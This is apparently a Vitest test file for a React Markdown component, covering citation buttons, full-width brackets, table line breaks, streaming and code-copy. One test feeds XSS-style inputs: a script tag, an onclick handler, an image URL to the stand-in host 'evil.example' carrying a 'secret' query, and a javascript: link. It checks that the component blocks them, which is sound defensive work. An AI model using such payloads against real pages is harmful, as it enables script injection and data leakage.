import { render, screen } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { describe, expect, it, vi } from "vitest";
import { Markdown } from "./Markdown";
import { type Citation } from "./types";

const manual: Citation = { number: 1, title: "Manual.pdf", content: "Hold the button.", page: 14 };

describe("Markdown", () => {
  it("turns source marks into buttons that open the source", async () => {
    const open = vi.fn();
    render(<Markdown text="Hold it for 10 s [1]. See [2]." citations={[manual]} onCite={open} />);

    await userEvent.click(screen.getByRole("button", { name: "Source 1: Manual.pdf" }));

    expect(open).toHaveBeenCalledExactlyOnceWith(1);
    expect(screen.getByText(/See \[2\]\./)).toBeInTheDocument();
  });

  it("understands lists of marks and full-width brackets, and leaves code alone", () => {
    const two: Citation = { ...manual, number: 2, title: "FAQ.md" };
    render(<Markdown text={"甲 [1, 2]，乙【2】。`a[1]`"} citations={[manual, two]} onCite={() => {}} />);

    expect(screen.getAllByRole("button").map((b) => b.textContent)).toEqual(["1", "2", "2"]);
    expect(screen.getByText("a[1]").tagName).toBe("CODE");
  });

  it("shows raw HTML as text and loads no picture", () => {
    const { container } = render(
      <Markdown text={'<script>alert(1)</script> <b onclick="x()">hi</b>\n\n![map](https://evil.example/?q=secret)\n\n[x](javascript:alert(1))'} />,
    );

    expect(container.querySelector("script, b, img")).toBeNull();
    expect(screen.getByRole("link", { name: "map" })).toHaveAttribute("href", "https://evil.example/?q=secret");
    expect(container.querySelector('[href^="javascript"]')).toBeNull();
  });

  it("breaks lines at <br> inside tables", () => {
    const { container } = render(<Markdown text={"| a |\n| - |\n| one<br>two |"} />);

    expect(container.querySelectorAll("td br")).toHaveLength(1);
  });

  it("shows no open marks while words stream in, and the cursor behind the last one", () => {
    const { container } = render(<Markdown text={"First.\n\n- a **bold"} streaming />);

    expect(container.textContent?.replaceAll("\n", "")).toBe("First.a bold");
    expect(container.querySelector("li strong")?.lastElementChild?.getAttribute("aria-hidden")).toBe("true");
  });

  it("copies a code block whole", async () => {
    const user = userEvent.setup();
    render(<Markdown text={"```py\nprint(1)\n\nprint(2)\n```"} />);

    await user.click(screen.getByRole("button", { name: "Copy" }));

    expect(await navigator.clipboard.readText()).toBe("print(1)\n\nprint(2)\n");
    expect(screen.getByRole("button", { name: "Copied" })).toBeInTheDocument();
    expect(screen.getByText("py")).toBeInTheDocument();
  });
});
